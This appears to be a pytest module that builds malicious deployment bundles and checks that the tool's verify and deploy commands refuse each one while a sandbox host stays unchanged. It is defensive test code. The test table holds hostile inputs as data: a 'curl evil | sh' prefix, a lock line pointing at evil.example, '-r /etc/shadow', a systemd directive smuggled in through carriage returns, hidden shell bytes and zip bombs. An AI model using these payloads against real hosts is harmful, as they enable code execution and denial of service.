"""Hostile bundles (issue 8): each refused by `verify` and by a deploy on a real host, which stays unchanged.

The table holds every way a bundle author can attack the host through the bundle itself: lock
lines that turn source builds back on, an sdist in the wheelhouse, names the host cannot
write, a zip bomb, bytes outside the zip, a spec.json that injects a directive or lacks [tls],
and the tamper cases of test_bundle_verify.py. Each is built from the stand-in bundle of that
module with the manifest rewritten to agree, so the hash check alone does not catch it (an
unsigned bundle can be rewritten that way by anyone).

(a) `integrator verify` refuses each with one line and exit 1 (fast, no root).
(b) One sandbox host for the whole table (module scope) first serves a real `shop` release;
    then each hostile `shop` bundle is deployed to it with `--host` and must be refused with
    the same line, while a listing of /etc, /opt, /var/lib and /run (path, type, mode, owner,
    size, link target, sha256 of regular files under /etc, /opt and /var/lib/integrator) taken
    inside the host before and after is identical, and the old release still serves.
"""

from __future__ import annotations

import dataclasses
import json
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from integrator.bundle import manifest as mf
from integrator.bundle import members
from integrator.bundle.manifest import Manifest
from integrator.cli import main
from integrator.errors import IntegratorError
from integrator.host.deploy_options import DeployOptions
from integrator.sandbox import Sandbox
from tests.sandbox_fixture import MakeSandbox
from tests.test_bundle_verify import (
    NOT_A_PIN,
    TAMPERS,
    Entry,
    lock_with_line,
    make_bundle,
    new_info,
    pinned_wheel,
    read_entries,
    sdist,
    sha256,
    tiny_wheel,
    wheel_bomb,
    with_lock,
    with_rewritten_manifest,
    write_bomb,
    write_entries,
)

Hostile = Callable[[Path, Path], Path]  # (the good stand-in bundle, where to write) -> a hostile bundle


def entries_case(change: Callable[[list[Entry]], list[Entry]]) -> Hostile:
    return lambda good, out: write_entries(out, change(read_entries(good)))


def lock_case(line: str) -> Hostile:
    return entries_case(lambda e: with_lock(e, lock_with_line(line)))


def added_member(name: str, data: bytes = b"x") -> Hostile:
    return entries_case(lambda e: with_rewritten_manifest([*e, (new_info(name), data)]))


def _set(spec: dict[str, Any], table: str, **values: object) -> None:
    """Change keys of one table of spec.json (nested, as `ServiceSpec.to_dict` writes it)."""
    spec[table].update(values)


def spec_case(change: Callable[[dict[str, object]], object]) -> Hostile:
    """spec.json changed in place by `change` (what it returns is ignored), and the manifest's copy
    of the spec and its hashes with it."""

    def rewrite(entries: list[Entry]) -> list[Entry]:
        members = dict((i.filename, d) for i, d in entries)
        spec = json.loads(members[mf.SPEC_PATH])
        change(spec)
        raw = (json.dumps(spec, indent=2, sort_keys=True) + "\n").encode()
        manifest = dataclasses.replace(Manifest.from_json(members[mf.MANIFEST_NAME], "x"), spec=spec)
        replaced = {mf.SPEC_PATH: raw, mf.MANIFEST_NAME: manifest.to_json()}
        return with_rewritten_manifest([(i, replaced.get(i.filename, d)) for i, d in entries])

    return entries_case(rewrite)


def sdist_pinned(good: Path, out: Path) -> Path:
    """Finding 3 as reported: an sdist in the wheelhouse, pinned by hash, with --no-binary for it."""
    data = sdist(Path("/root/PWNED"))
    entries = [*read_entries(good), (new_info(f"{mf.WHEELHOUSE}/evil-1.0.tar.gz"), data)]
    lines = f"--no-binary evil\nevil==1.0 --hash=sha256:{sha256(data)}"
    return write_entries(out, with_lock(entries, lock_with_line(lines)))


def appended(tail: bytes) -> Hostile:
    def build(good: Path, out: Path) -> Path:
        out.write_bytes(good.read_bytes() + tail)
        return out

    return build


def hidden_before_central_directory(good: Path, out: Path) -> Path:
    """Bytes no member accounts for, with the end record moved so zipfile still reads the bundle."""
    raw = good.read_bytes()
    size_cd, offset_cd = struct.unpack("<II", raw[-10:-2])
    start = len(raw) - 22 - size_cd
    hidden = b"#!/bin/sh\nid\n"
    out.write_bytes(
        raw[:start] + hidden + raw[start:-6] + struct.pack("<I", offset_cd + len(hidden)) + raw[-2:]
    )
    return out


def zip_bomb(good: Path, out: Path) -> Path:
    bombs = {f"{mf.WHEELHOUSE}/bomb-1.0-py3-none-any.whl": 1100, "payload/bomb2": 1100}
    return write_bomb(out, read_entries(good), bombs)


def lying_size(good: Path, out: Path) -> Path:
    """A member whose headers declare 100 bytes (the manifest agrees) but whose data is 64 KiB.

    Reads stop at the declared size, so no more than it is ever unpacked; the CRC then fails."""
    data = bytes(64 << 10)
    entries = [*read_entries(good), (new_info("payload/big"), data)]
    rewritten = with_rewritten_manifest(entries)
    files = json.loads(dict((i.filename, d) for i, d in rewritten)[mf.MANIFEST_NAME])
    files["files"]["payload/big"] = {"sha256": sha256(data[:100]), "size": 100}
    manifest = (json.dumps(files, indent=1, sort_keys=True) + "\n").encode()
    write_entries(out, [(i, manifest if i.filename == mf.MANIFEST_NAME else d) for i, d in rewritten])
    raw = bytearray(out.read_bytes())
    info = zipfile.ZipFile(out).getinfo("payload/big")
    struct.pack_into("<I", raw, info.header_offset + 22, 100)  # local header: uncompressed size
    central = raw.rfind(b"PK\x01\x02", 0, raw.rfind(b"payload/big"))
    struct.pack_into("<I", raw, central + 24, 100)  # central directory: uncompressed size
    out.write_bytes(bytes(raw))
    return out


HOSTILE: dict[str, tuple[Hostile, str]] = {
    "lock: --no-binary evil": (lock_case("--no-binary evil"), NOT_A_PIN),
    "lock: -r /etc/shadow": (lock_case("-r /etc/shadow"), NOT_A_PIN),
    "lock: --index-url": (lock_case("--index-url http://evil.example/simple"), NOT_A_PIN),
    "lock: a direct sdist path": (
        lock_case(f"./payload/wheelhouse/evil-1.0.tar.gz --hash=sha256:{'a' * 64}"),
        NOT_A_PIN,
    ),
    "lock: a line continued with a backslash": (lock_case("# harmless \\"), NOT_A_PIN),
    "lock: a carriage return": (
        lock_case(f"shop==1.2.0 --hash=sha256:{'a' * 64}\r--no-binary shop"),
        NOT_A_PIN,
    ),
    "wheelhouse: a pinned sdist with --no-binary": (
        sdist_pinned,
        "'evil-1.0.tar.gz' refused: not a wheel file name",
    ),
    "wheelhouse: a wheel no lock pins": (
        added_member(f"{mf.WHEELHOUSE}/extra-1.0-py3-none-any.whl", tiny_wheel("extra", "1.0")),
        "extra-1.0-py3-none-any.whl is pinned by no lock",
    ),
    "wheelhouse: an sdist named as a wheel, pinned": (
        entries_case(lambda e: pinned_wheel(e, sdist(Path("/root/PWNED")))),
        "evil-1.0-py3-none-any.whl is not a wheel (not a zip file",
    ),
    "wheelhouse: a wheel that unpacks to 2.2 GiB": (
        entries_case(lambda e: pinned_wheel(e, wheel_bomb())),
        "installs unpack to",
    ),
    "spec: a description that injects ExecStartPre=+ (\\r)": (
        spec_case(
            lambda spec: _set(spec, "service", description="Shop\r[Service]\rExecStartPre=+/bin/sh -c id")
        ),
        "payload/spec.json: [service] description 'Shop\\r[Service]\\rExecStartPre=+/bin/sh -c id' "
        "contains a control character (U+000D)",
    ),
    "spec: no [tls]": (spec_case(lambda spec: spec.pop("tls")), "payload/spec.json: tls is missing"),
    "payload: a setup.py": (
        added_member("payload/setup.py"),
        "the payload holds only spec.json, locks and wheels",
    ),
    "name: a 300-character component": (added_member("payload/" + "a" * 300), "longer than 255 bytes"),
    "name: 1250 bytes in all": (
        added_member("payload/" + "/".join(["b" * 200] * 6)),
        "longer than 1024 bytes",
    ),
    "name: differs only by case": (added_member("payload/SPEC.json"), "only by case"),
    "name: a control character": (added_member("payload/a\rb"), "control or non-ASCII character"),
    "zip bomb: 2.2 GiB of zeros in 2 MB": (zip_bomb, "more than a bundle may"),
    "zip bomb: more members than the cap": (
        entries_case(
            lambda e: with_rewritten_manifest(
                [*e, *((new_info(f"payload/m/{n}"), b"") for n in range(members.MAX_MEMBERS))]
            )
        ),
        "more than a bundle may hold",
    ),
    "sizes that lie": (lying_size, "payload/big: unreadable"),
    "bytes appended after the zip": (appended(b"\n#!/bin/sh\nid\n"), "after the end of the zip"),
    "bytes hidden before the central directory": (
        hidden_before_central_directory,
        "unexpected 13 bytes between the members and the central directory",
    ),
    "a zip comment": (
        lambda good, out: write_entries(out, read_entries(good), comment=b"hidden"),
        "zip comment",
    ),
    "a shell prefix instead of the shebang": (
        lambda good, out: write_entries(out, read_entries(good), prefix=b"#!/bin/sh\ncurl evil | sh\n"),
        "before the zip",
    ),
    **{f"tamper: {case}": (entries_case(tamper), expected) for case, (tamper, expected) in TAMPERS.items()},
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Every hostile bundle, built once (named shop-1.2.0.pyz, in a directory of its own)."""
    root = tmp_path_factory.mktemp("hostile")
    good = make_bundle(root / "good.pyz")
    built = {}
    for number, case in enumerate(HOSTILE):
        (root / str(number)).mkdir()
        built[case] = HOSTILE[case][0](good, root / str(number) / "shop-1.2.0.pyz")
    return built


def test_the_stand_in_bundle_itself_verifies(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """So each refusal below comes from what the case changed."""
    assert main(["verify", str(make_bundle(tmp_path / "good.pyz"))]) == 0, capsys.readouterr().err


@pytest.mark.parametrize("case", list(HOSTILE))
def test_verify_refuses_each_hostile_bundle(
    hostile: dict[str, Path], case: str, capsys: pytest.CaptureFixture[str]
) -> None:
    bad, expected = hostile[case], HOSTILE[case][1]
    assert main(["verify", str(bad)]) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"integrator: error: {bad}") and err.count("\n") == 1, err
    assert expected in err, err


# --- (b) the same table deployed on one real host --------------------------------------------------

# Walks the host's state as root, prints one JSON object: path -> [type, mode, uid, gid, size, sha256].
LISTING = r"""
import hashlib, json, os, stat, sys
SKIP = tuple(sys.argv[1:])
out = {}
for top in ("/etc", "/opt", "/var/lib", "/run"):
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if not os.path.join(root, d).startswith(SKIP)]
        for name in dirs + files:
            path = os.path.join(root, name)
            if path.startswith(SKIP):
                continue
            st = os.lstat(path)
            kind = stat.S_IFMT(st.st_mode)
            size = st.st_size if stat.S_ISREG(kind) else None
            digest = None
            if stat.S_ISREG(kind) and path.startswith(("/etc/", "/opt/", "/var/lib/integrator/")):
                with open(path, "rb") as fh:
                    digest = hashlib.sha256(fh.read()).hexdigest()
            link = os.readlink(path) if stat.S_ISLNK(kind) else None
            out[path] = [kind, stat.S_IMODE(st.st_mode), st.st_uid, st.st_gid, size, digest, link]
print(json.dumps(out, sort_keys=True))
"""
# Left out, each for a reason of its own (measured: without them, a refused deploy on a fresh host
# changes nothing at all; with a service serving, these may change between two listings by themselves):
VOLATILE = (
    "/run/log/journal/",  # journald's volatile log grows with every line logged (requests included)
    "/var/lib/systemd/timers/",  # timer stamps (apt-daily, logrotate, ...) updated on their own schedule
)


def listing(box: Sandbox) -> dict[str, list[object]]:
    proc = box.exec(["python3", "-c", LISTING, *VOLATILE])
    return json.loads(proc.stdout)


def changes(before: dict[str, list[object]], after: dict[str, list[object]]) -> list[str]:
    keys = sorted(set(before) | set(after))
    return [f"{k}: {before.get(k)} -> {after.get(k)}" for k in keys if before.get(k) != after.get(k)]


@pytest.fixture(scope="module")
def serving_host(tmp_path_factory: pytest.TempPathFactory, make_module_sandbox: MakeSandbox) -> Sandbox:
    """One host for the table, serving a real `shop` release the hostile bundles try to replace."""
    from integrator.targets import commands
    from integrator.targets.transport import SandboxTarget
    from tests.test_deploy_e2e import _build, _new_service, wait_serving

    root = tmp_path_factory.mktemp("real")
    shop = _build(_new_service("shop", root / "shop"), root / "dist")
    box = make_module_sandbox()
    result = commands.deploy(DeployOptions(shop), SandboxTarget(box.name))
    assert result.exit_code == 0, result.lines
    wait_serving(box.address, 30, host="shop")
    return box


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.parametrize("case", list(HOSTILE))
def test_deploying_each_hostile_bundle_is_refused_and_changes_nothing(
    serving_host: Sandbox, hostile: dict[str, Path], case: str
) -> None:
    from integrator.targets import commands
    from integrator.targets.transport import SandboxTarget
    from tests.test_deploy_e2e import wait_serving

    box, bad, expected = serving_host, hostile[case], HOSTILE[case][1]
    before = listing(box)
    with pytest.raises(IntegratorError) as err:
        commands.deploy(DeployOptions(bad), SandboxTarget(box.name))
    message = err.value.message
    assert expected in message and "\n" not in message and err.value.exit_code == 1, message
    assert changes(before, listing(box)) == []
    assert box.exec(["test", "-e", "/root/PWNED"], check=False).returncode != 0
    wait_serving(box.address, 5, host="shop")
